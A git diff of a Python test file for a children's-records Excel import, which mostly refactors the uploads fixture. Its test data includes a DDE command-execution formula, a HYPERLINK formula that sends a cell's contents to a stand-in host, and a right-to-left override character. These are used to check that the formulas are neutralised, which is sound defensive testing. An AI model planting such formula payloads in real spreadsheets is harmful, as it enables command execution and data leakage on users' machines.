@@ -11,13 +11,13 @@ import pytest
 from openpyxl import Workbook, load_workbook
 from sqlalchemy import select, update
 
-from blueprints.children.excel import Reach, import_dir, read_survey
+from blueprints.children.excel import Reach, read_survey
 from blueprints.children.models import Child, FamilyMember, ImportBatch
 from blueprints.children.services import FamilyInput
 from blueprints.core import spreadsheet
 from extensions import db
 from tests.factories import create_child, create_user, create_village, valid_id_number
-from tests.test_children_excel import good_row, sign_in, upload, workbook
+from tests.test_children_excel import good_row, sign_in, upload, uploads, workbook  # noqa: F401
 
 HYPERLINK = '=HYPERLINK("http://example.org/?"&C2,"点我")'
 DDE = "=cmd|' /C calc'!A0"
@@ -166,9 +166,8 @@ def test_the_template_writes_village_and_school_names_as_text(client, auth, app)
 
 
 @pytest.fixture
-def town(app):
-    village = create_village("前王庄村")
-    return village
+def town(app, uploads):
+    return create_village("前王庄村")
 
 
 def text_workbook(row: dict) -> bytes:
@@ -187,7 +186,7 @@ def text_workbook(row: dict) -> bytes:
     return buffer.getvalue()
 
 
-def test_imported_formula_text_is_kept_as_text_and_exported_as_text(client, auth, town):
+def test_imported_formula_text_is_kept_as_text_and_exported_as_text(client, auth, town, uploads):
     sign_in(auth, "civil_affairs")
     response = upload(client, text_workbook(good_row(ID, 住址=DDE, 健康状况=HYPERLINK, 姓名="王\u202e小红")))
     assert response.status_code == 200, response.get_data(as_text=True)
@@ -201,7 +200,7 @@ def test_imported_formula_text_is_kept_as_text_and_exported_as_text(client, auth
     assert_no_formula(data)
     row = {c.value: c for c in cells(data)}
     assert row[DDE].quotePrefix and row[HYPERLINK].quotePrefix and "王小红" in row
-    assert not list(import_dir().iterdir())  # imported: the upload is gone
+    assert not list(uploads.iterdir())  # imported: the upload is gone
 
 
 def test_the_reader_never_runs_a_formula(app, town):
